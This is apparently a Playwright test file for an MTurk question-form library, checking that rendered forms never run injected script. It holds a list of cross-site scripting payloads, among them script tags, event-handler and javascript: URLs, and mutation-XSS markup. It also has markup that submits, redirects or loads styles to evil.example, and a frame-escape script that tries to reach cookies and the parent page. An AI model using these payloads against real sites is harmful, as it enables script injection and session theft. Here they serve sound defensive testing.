"""Nothing of a form runs on its page, whatever it holds, and nothing is asked of anybody but for its media."""

from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest

import mturk_xml as mx
from mturk_xml import content, question_form
from mturk_xml.documents.question_form import (
    AnswerFormatRegex,
    Constraints,
    FreeTextAnswer,
    Question,
    QuestionForm,
    SelectionAnswer,
    StyleSuggestion,
)
from mturk_xml.web.rendering import render_html

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.needs_browser

Open = Callable[[QuestionForm], Any]

_RUN = "window.canary=1;alert(1)"
ATTACKS = [
    f"<script>{_RUN}</script>",
    f"</textarea></script></style></title><script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' data-x='",
    f"javascript:{_RUN}",
    "{{ 7*7 }}{% raw %}<b>",
    f"--><script>{_RUN}</script><!--",
    "\\u003cscript>\\'\\\"",
]
# Names that a form's element has itself, and that scripts ask it for.
NAMES = [
    *(
        "submit",
        "action",
        "elements",
        "dataset",
        "querySelectorAll",
        "getAttribute",
        "setAttribute",
        "addEventListener",
    ),
    *("__proto__", "constructor", "toString", "page", "answers", "problems", "accepted", "q1-field", "q1-error", "id"),
]
FORMATTED = [
    *ATTACKS,
    f'<a href="javascript:{_RUN}">a</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">a</a>',
    f'<p onclick="{_RUN}" onmouseover="{_RUN}">a</p>',
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe><object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="answers" id="answers"><button>go</button></form>',
    '<img name="getElementById" id="page" src="https://example.org/x.png" alt="a"/>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}"></style></mglyph></table></mtext></math>',
]


def _hostile() -> QuestionForm:
    """A form with an attack wherever a form can hold a text."""
    parts: list[question_form.Overview | Question] = [
        question_form.Overview(content=tuple(content.FormattedContent(text=markup) for markup in FORMATTED))
    ]
    for number, attack in enumerate(ATTACKS):
        url = _url(attack)
        picture = content.Binary(
            mime_type=content.MimeType(type=content.MediaType.IMAGE, sub_type=attack), data_url=url, alt_text=attack
        )
        embedded = content.EmbeddedBinary(
            embedded_mime_type=content.EmbeddedMimeType(type="x" if number % 2 else "video", sub_type=attack),
            data_url=url,
            alt_text=attack,
            width=attack,
            height="1",
        )
        parts.append(
            question_form.Overview(
                content=(
                    content.Title(text=attack),
                    content.Text(text=attack),
                    content.List(list_items=(attack,)),
                    picture,
                    embedded,
                )
            )
        )
        regex = AnswerFormatRegex(regex=f"^{attack}$", error_text=attack, flags=attack)
        plain = AnswerFormatRegex(regex="^x$", error_text=attack)
        text = FreeTextAnswer(
            constraints=Constraints(answer_format_regexes=(regex, plain)),
            default_text=attack,
            number_of_lines_suggestion=number % 2 + 1,
        )
        parts.append(_question(attack, text))
        parts += [_question(f"{style}{attack}", _choices(attack, style, text)) for style in StyleSuggestion]
    return QuestionForm(content=tuple(parts))


def _url(attack: str) -> str:
    """Return an address with an attack in it, as far as an address can have it."""
    try:
        return content.JavaApplet(
            applet_path=f"https://example.org/{attack}", applet_filename="", width="", height=""
        ).applet_path
    except mx.InvalidValueError:
        return "https://example.org/"


def _question(name: str, specification: FreeTextAnswer | SelectionAnswer) -> Question:
    return Question(
        question_identifier=name,
        display_name=name,
        question_content=(content.Text(text=name),),
        answer_specification=specification,
    )


def _choices(attack: str, style: StyleSuggestion, other: FreeTextAnswer) -> SelectionAnswer:
    choices = (content.Text(text=attack[:50]), content.Text(text="b"))
    return SelectionAnswer(
        style_suggestion=style,
        max_selection_count=2 if style is StyleSuggestion.MULTICHOOSER else 1,
        selections=question_form.Selections(
            selections=tuple(
                question_form.Selection(selection_identifier=f"{attack}{number}", content=each)
                for number, each in enumerate(choices)
            ),
            other_selection=other,
        ),
    )


def test_a_hostile_form_is_a_form(site: Open) -> None:
    opened = site(_hostile())
    page = opened.page
    page.locator("#submit").click()
    refused = opened.problems
    assert set(refused.values()) == set(ATTACKS)  # each is shown as it is written
    for field in page.locator("input[type=text], textarea").all():
        field.hover()
        field.fill("x")
    page.locator("#submit").click()
    assert (page.title(), len(opened.accepted)) == ("Thank you", 1)
    assert page.evaluate("window.canary") is None
    assert opened.complaints == []


def test_names_that_a_form_has_itself(site: Open) -> None:
    form = QuestionForm(
        content=tuple(
            Question(
                question_identifier=name,
                is_required=True,
                question_content=(content.Text(text=name),),
                answer_specification=FreeTextAnswer(),
            )
            for name in NAMES
        )
    )
    opened = site(form)
    press = "document.getElementById('submit').click()"  # Playwright too asks the form for what it has
    opened.page.evaluate(press)
    assert len(opened.problems) == len(NAMES)
    opened.page.evaluate("document.querySelectorAll('input[type=text]').forEach((each) => { each.value = 'x'; })")
    with opened.page.expect_navigation():
        opened.page.evaluate(press)
    assert [answer.question_identifier for answer in opened.accepted[0].answers] == NAMES
    assert opened.complaints == []


def test_hostile_answers_are_shown_again_as_they_are(site_without_script: Open, page: "Page") -> None:
    numeric = Constraints(is_numeric=question_form.IsNumeric())
    form = QuestionForm(
        content=tuple(
            _question(f"q{number}", FreeTextAnswer(constraints=numeric, number_of_lines_suggestion=1 + number % 2))
            for number in range(len(ATTACKS))
        )
    )
    opened = site_without_script(form)
    fields = opened.page.locator("input[type=text], textarea").all()
    for field, attack in zip(fields, ATTACKS, strict=True):
        field.fill(attack)
    opened.submit()
    assert len(opened.problems) == len(ATTACKS)
    assert [field.input_value() for field in fields] == ATTACKS
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.set_content(opened.page.content())
    assert page.evaluate("window.canary") is None
    assert complaints == []


def test_an_html_question_cannot_leave_its_frame(page: "Page") -> None:
    source = """<!DOCTYPE html><title>x</title><p id=p>ran</p>
    <form method=post action="https://www.mturk.com/mturk/externalSubmit"><input name=a></form><script>
    const tried = [];
    for (const attack of [() => parent.document.title, () => { top.location = "https://evil.example/"; },
                          () => localStorage.x, () => document.cookie]) {
      try { attack(); tried.push("done"); } catch (error) { tried.push(error.name); }
    }
    document.forms[0].submit();
    open("https://evil.example/");
    p.textContent = tried.join(" ");
    </script>"""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.set_content(render_html(mx.HTMLQuestion(html_content=source, frame_height=300)))
    frame = page.frame_locator("#frame")
    frame.locator("p", has_text="SecurityError").wait_for()
    assert frame.locator("p").inner_text() == "SecurityError SecurityError SecurityError SecurityError"
    assert page.title() == "HTMLQuestion"
    assert [url for url in asked if not url.startswith("about:")] == []
    assert len(page.context.pages) == 1
